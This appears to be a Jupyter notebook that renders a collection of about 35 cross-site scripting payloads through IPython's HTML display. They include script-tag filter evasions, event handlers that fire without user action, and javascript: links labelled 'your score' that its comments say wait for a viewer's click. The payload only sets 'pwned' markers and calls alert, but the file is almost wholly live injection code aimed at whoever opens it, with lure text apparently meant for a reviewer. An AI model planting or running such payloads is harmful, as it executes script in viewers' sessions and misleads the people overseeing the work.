# %%
from IPython.display import HTML, display

DEED = "window.pwned=1;document.title='pwned';localStorage.setItem('pwned',1);console.log('pwned');alert(1)"
QUOTED = DEED.replace("'", "&#39;")
shown = 0


def show(*texts):
    global shown
    for text in texts:
        display(HTML(text))
        shown += 1


# %%
show(
    f"<script>{DEED}</script>",
    f"<SCRIPT SRC='data:text/javascript,{QUOTED}'></SCRIPT>",
    f"<script type=module>{DEED}</script>",
    f"<scr<script></script>ipt>{DEED}</scr</script>ipt>",
    f"<scr\0ipt>{DEED}</scr\0ipt>",
    f"<script/x>{DEED}</script\t\n bar>",
    f"<iframe srcdoc=\"<script>parent.eval('{QUOTED}')</script>\"></iframe>",
    f"<object data=\"data:text/html,<script>parent.eval('{QUOTED}')</script>\"></object>",
    f'<embed src="javascript:{QUOTED}">',
)

# %%
# Each of these runs by itself, without a click.
show(
    f'<img src=x onerror="{QUOTED}">',
    f'<img/src=x/onerror="{QUOTED}">',
    f'<img src=x:x\ronerror="{QUOTED}">',
    f'<svg onload="{QUOTED}"></svg>',
    f'<svg><animate onbegin="{QUOTED}" attributeName=x dur=1s></animate></svg>',
    f'<svg><set onbegin="{QUOTED}" attributeName=x dur=1s></set></svg>',
    f"<svg><script>{QUOTED}</script></svg>",
    f'<svg><image href=x onerror="{QUOTED}"></image></svg>',
    f'<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="{QUOTED}"></body></foreignObject></svg>',
    f'<body onload="{QUOTED}" onpageshow="{QUOTED}">',
    f'<details open ontoggle="{QUOTED}"><summary>x</summary>y</details>',
    f'<input autofocus onfocus="{QUOTED}">',
    f'<video src=x onerror="{QUOTED}"></video><audio src=x onerror="{QUOTED}"></audio>',
    f'<video><source onerror="{QUOTED}"></video>',
    f'<style onload="{QUOTED}"></style><link rel=stylesheet href=x onerror="{QUOTED}">',
    f'<marquee onstart="{QUOTED}">x</marquee>',
    f'<div style="animation:x 1s" onanimationstart="{QUOTED}">x</div><style>@keyframes x{{}}</style>',
    f'<p contenteditable tabindex=0 autofocus onfocus="{QUOTED}">x</p>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{QUOTED}">',
)

# %%
# These wait for the click of somebody who looks at the page.
show(
    f'<a href="javascript:{QUOTED}">your score</a>',
    f'<a href="java\tscript:{QUOTED}">your score</a>',
    f'<a href="&#106;avascript&colon;{QUOTED}">your score</a>',
    f'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">your score</a>',
    f'<math><mtext href="javascript:{QUOTED}">your score</mtext></math>',
    f'<svg><a xlink:href="javascript:{QUOTED}"><text y=20>your score</text></a></svg>',
    f'<form><button formaction="javascript:{QUOTED}">your score</button></form>',
    f'<summary onclick="{QUOTED}" onmouseover="{QUOTED}">your score</summary>',
)
print("pieces of markup with a script:", shown)
